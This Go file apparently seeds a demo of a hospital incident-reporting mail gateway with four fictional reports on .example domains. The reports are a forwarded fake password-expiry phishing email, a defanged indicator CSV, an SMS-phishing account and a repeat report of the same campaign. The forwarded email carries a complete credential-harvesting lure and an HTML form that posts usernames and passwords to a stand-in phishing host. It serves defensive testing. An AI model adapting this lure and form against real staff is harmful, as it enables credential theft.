package main

import (
	"crypto/md5"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/mail"
	"strings"
	"time"

	"github.com/hospital-league/leaguemail/parser"
	"github.com/hospital-league/leaguemail/store"
)

// The people of the demo's story. Every domain is under .example (RFC
// 2606), which the indicator extractor accepts as a real TLD, so nothing
// here points at a real host.
const (
	demoLeague  = "report@league.example"
	demoTriager = "alex@volunteers.example"
	demoCERT    = "cert@cert.example"

	camille = "camille.martin@hopital-nord.example"
	julien  = "j.petit@chu-rivesud.example"
	nadia   = "n.benali@clinique-despins.example"
	sophie  = "s.laurent@chu-rivesud.example"
)

// demoContacts are put in the store before the gateway starts: a national
// CERT, so that #escalate alone routes by the reporting institution's
// country, and the hospitals, which the gateway recognises by the domain
// of a reporter's address.
var demoContacts = []store.Contact{
	{Kind: "cert", Name: "CERT-FR", Email: demoCERT, Country: "FR"},
	{Kind: "institution", Name: "Hôpital Nord", Email: "soc@hopital-nord.example", Country: "FR", Region: "Hauts-de-France"},
	{Kind: "institution", Name: "CHU Rive-Sud", Email: "rssi@chu-rivesud.example", Country: "FR", Region: "Occitanie"},
	{Kind: "institution", Name: "Clinique des Pins", Email: "dsi@clinique-despins.example", Country: "FR", Region: "Nouvelle-Aquitaine"},
}

// demoUsers are the mailboxes of the demo's IMAP server: everyone who
// sends or receives mail in the story, and the contacts' addresses.
func demoUsers() []string {
	users := []string{demoLeague, demoTriager, camille, julien, nadia, sophie, demoAbuseDesk}
	for _, c := range demoContacts {
		users = append(users, c.Email)
	}
	return users
}

// seedReport is one report of the story, as a hospital's mail client
// submits it to the league's address.
type seedReport struct {
	What string // what the story says is happening
	From string // the reporter: envelope sender and From
	Raw  []byte
}

// seedReports are the four reports of the story: a forwarded phish with
// its HTML form, a CSV of defanged indicators, a defanged free-text
// report, and a second hospital reporting the first one's phishing domain.
func seedReports(now time.Time) []seedReport {
	return []seedReport{
		{"Hôpital Nord forwards a phishing mail as an attachment, with the HTML form it carries", camille, forwardedPhish(now)},
		{"CHU Rive-Sud sends the indicators of a night's blocked traffic as a CSV file", julien, indicatorCSV(now)},
		{"Clinique des Pins describes an SMS phishing wave in a defanged free-text report", nadia, freeTextReport(now)},
		{"CHU Rive-Sud reports the same phishing campaign as Hôpital Nord", sophie, samePhish(now)},
	}
}

// forwardedPhish is report 1: Thunderbird's "Forward as attachment" of a
// credential phish, whose HTML attachment posts to the phishing site.
func forwardedPhish(now time.Time) []byte {
	sent := now.Add(-3 * time.Hour)
	form := `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Outlook Web App</title></head>
<body style="font-family: Segoe UI, Arial, sans-serif">
<h2>Outlook Web App</h2>
<p>Your password expires today. Enter it below to keep it.</p>
<form action="https://login-portal.example/owa/submit.php" method="post">
<input type="hidden" name="src" value="hn-nursing">
<p>Email <input type="email" name="user"></p>
<p>Password <input type="password" name="pass"></p>
<p><input type="submit" value="Keep my password"></p>
</form>
</body></html>
`
	phish := `Return-Path: <bounce-7731@mailer.login-portal.example>
Received: from mailer.login-portal.example (mailer.login-portal.example [203.0.113.45])
	by mx1.hopital-nord.example (Postfix) with ESMTP id 4Xk2pQ0bG7z9s
	for <nursing-staff@hopital-nord.example>; ` + date(sent) + `
From: "IT Service Desk" <it-servicedesk@hopital-nord-support.example>
Reply-To: helpdesk@login-portal.example
To: nursing-staff@hopital-nord.example
Subject: Action required: your password expires today
Date: ` + date(sent) + `
Message-ID: ` + msgID(sent, "mailer.login-portal.example") + `
X-Originating-IP: [203.0.113.45]
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_outer_7731"

--=_outer_7731
Content-Type: multipart/alternative; boundary="=_alt_7731"

--=_alt_7731
Content-Type: text/plain; charset=utf-8

Dear colleague,

Your network password expires today. To keep your current password and
avoid losing access to patient records, confirm it within 24 hours:

https://login-portal.example/owa/auth/keep-password?u=nursing

IT Service Desk
--=_alt_7731
Content-Type: text/html; charset=utf-8

<html><body>
<p>Dear colleague,</p>
<p>Your network password <b>expires today</b>. To keep your current password
and avoid losing access to patient records, confirm it within 24 hours:</p>
<p><a href="https://login-portal.example/owa/auth/keep-password?u=nursing">https://intranet.hopital-nord.example/password</a></p>
<p>IT Service Desk</p>
</body></html>
--=_alt_7731--

--=_outer_7731
Content-Type: text/html; charset=utf-8; name="Password_Keep_Form.html"
Content-Disposition: attachment; filename="Password_Keep_Form.html"
Content-Transfer-Encoding: base64

` + wrap64([]byte(form)) + `
--=_outer_7731--
`
	return crlf(`From: Camille Martin <` + camille + `>
To: Hospital League <` + demoLeague + `>
Subject: Fwd: Action required: your password expires today
Date: ` + date(now) + `
Message-ID: ` + msgID(now, "hopital-nord.example") + `
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-GB
Content-Type: multipart/mixed; boundary="------------hn0Q2WmXo1"

This is a multi-part message in MIME format.
--------------hn0Q2WmXo1
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Hello,

Since 07:40 this morning about forty of our staff, mostly nurses, have
received the mail attached below. It imitates our IT service desk and
sends them to a fake Outlook page to "keep" their password. Two users
entered their credentials before we blocked the link at the proxy; their
passwords have been reset.

The original is attached as we received it, with its headers and the
HTML form it carries.

Camille Martin
SOC, Hôpital Nord

--------------hn0Q2WmXo1
Content-Type: message/rfc822; name="Action required.eml"
Content-Disposition: attachment; filename="Action required.eml"

` + phish + `
--------------hn0Q2WmXo1--
`)
}

// indicatorCSV is report 2: an analyst's export of blocked traffic,
// defanged as analysts share it, attached as CSV.
func indicatorCSV(now time.Time) []byte {
	// A harmless stand-in for a dropped file's hashes.
	sample := []byte("leaguemail demo: svchost32.exe (not malware)")
	sum256, sum5 := sha256.Sum256(sample), md5.Sum(sample)
	night := now.Add(-10 * time.Hour).UTC()
	ts := func(d time.Duration) string { return night.Add(d).Format(time.RFC3339) }
	csv := "type,indicator,first_seen,last_seen,comment\n" +
		"ipv4,198.51.100[.]23," + ts(0) + "," + ts(6*time.Hour) + ",\"beacon every 60 s from RAD-WS-114, blocked at the firewall\"\n" +
		"domain,cdn-update-sync[.]example," + ts(0) + "," + ts(6*time.Hour) + ",DNS queries from RAD-WS-114\n" +
		"url,hxxp://cdn-update-sync[.]example/api/v2/gate.php," + ts(2*time.Minute) + "," + ts(6*time.Hour) + ",\"HTTP POST, 512 bytes each\"\n" +
		"sha256," + hex.EncodeToString(sum256[:]) + "," + ts(-5*time.Minute) + ",,svchost32.exe in C:\\Users\\Public\n" +
		"md5," + hex.EncodeToString(sum5[:]) + "," + ts(-5*time.Minute) + ",,same file\n"
	return crlf(`From: Julien Petit <` + julien + `>
To: ` + demoLeague + `
Subject: IOCs: radiology workstation beaconing, blocked last night
Date: ` + date(now) + `
Message-ID: ` + msgID(now, "chu-rivesud.example") + `
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0
Content-Type: multipart/mixed; boundary="----=_NextPart_000_0012_01DA7F3C"

------=_NextPart_000_0012_01DA7F3C
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

Hello,

Last night our EDR flagged a radiology workstation (RAD-WS-114)
beaconing to an unknown host every minute. The workstation is isolated
and being reimaged. The indicators are in the attached CSV (defanged).

Regards,
Julien Petit
SOC analyst, CHU Rive-Sud

------=_NextPart_000_0012_01DA7F3C
Content-Type: text/csv; name="iocs-rad-ws-114.csv"
Content-Disposition: attachment; filename="iocs-rad-ws-114.csv"
Content-Transfer-Encoding: base64

` + wrap64([]byte(csv)) + `
------=_NextPart_000_0012_01DA7F3C--
`)
}

// freeTextReport is report 3: a description in the reporter's own words,
// with the indicators defanged in the text.
func freeTextReport(now time.Time) []byte {
	return crlf(`From: Nadia Benali <` + nadia + `>
To: ` + demoLeague + `
Subject: SMS phishing aimed at our pharmacy (fake wholesaler)
Date: ` + date(now) + `
Message-ID: ` + msgID(now, "clinique-despins.example") + `
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8; format=flowed
Content-Transfer-Encoding: 8bit

Hello,

Since Monday five people in our pharmacy have received text messages
pretending to come from our drug wholesaler: an insulin order is
"blocked" and must be confirmed at

   hxxps://pharma-orders-track[.]example/confirm?ref=CDP-88213

The page asks for the wholesaler account's login. One colleague also got
a mail from orders[at]pharma-orders-track[.]example with the same link.
In a sandbox we saw the page post what is typed to
hxxp://192.0.2[.]77/collect.php. Nobody entered anything, as far as we
know.

Nadia Benali
IT, Clinique des Pins
`)
}

// samePhish is report 4: another hospital hit by report 1's campaign,
// which the gateway correlates by the phishing domain and sending IP.
func samePhish(now time.Time) []byte {
	return crlf(`From: Sophie Laurent <` + sophie + `>
To: Hospital League <` + demoLeague + `>
Subject: Phishing campaign: fake password expiry page
Date: ` + date(now) + `
Message-ID: ` + msgID(now, "chu-rivesud.example") + `
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Good afternoon,

Since 09:15 our staff have been receiving a mail "Action required: your
password expires today" that imitates our own service desk. The link
goes to

   hxxps://login-portal[.]example/owa/auth/keep-password?u=admissions

and the mails came from mailer.login-portal[.]example (203.0.113[.]45).
We have blocked the domain at the proxy. Three users clicked; none
entered a password, as far as we know.

Sophie Laurent
RSSI, CHU Rive-Sud
`)
}

// triagerReply is the triager's answer to a notice, as their mail client
// writes it: to the notice's Reply-To (the reply token's address),
// threaded to it, commands on the first lines, the notice quoted below.
func triagerReply(notice *parser.Message, now time.Time, lines ...string) []byte {
	id := "<" + strings.Trim(notice.MessageID, "<>") + ">"
	var quote strings.Builder
	for l := range strings.Lines(strings.TrimSpace(notice.Text)) {
		quote.WriteString(strings.TrimRight("> "+strings.TrimRight(l, "\r\n"), " ") + "\n")
	}
	from := mail.Address{Name: "Alex Moreau", Address: demoTriager}
	return crlf(`From: ` + from.String() + `
To: ` + notice.ReplyTo + `
Subject: Re: ` + notice.Subject + `
Date: ` + date(now) + `
Message-ID: ` + msgID(now, "volunteers.example") + `
In-Reply-To: ` + id + `
References: ` + id + `
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

` + strings.Join(lines, "\n") + `

On ` + notice.Date.Local().Format("02/01/2006 15:04") + `, Hospital League wrote:
` + quote.String())
}

func date(t time.Time) string { return t.Format(time.RFC1123Z) }

// msgID is a fresh Message-ID at domain.
func msgID(t time.Time, domain string) string {
	return fmt.Sprintf("<%s.%s@%s>", t.UTC().Format("20060102150405"), strings.ToLower(rand.Text()[:10]), domain)
}

// wrap64 is b in base64, in lines of 76 characters.
func wrap64(b []byte) string {
	s := base64.StdEncoding.EncodeToString(b)
	var out strings.Builder
	for len(s) > 76 {
		out.WriteString(s[:76] + "\n")
		s = s[76:]
	}
	out.WriteString(s)
	return out.String()
}

// crlf turns the text's line ends into CRLF, as mail is sent.
func crlf(s string) []byte {
	return []byte(strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\n", "\r\n"))
}
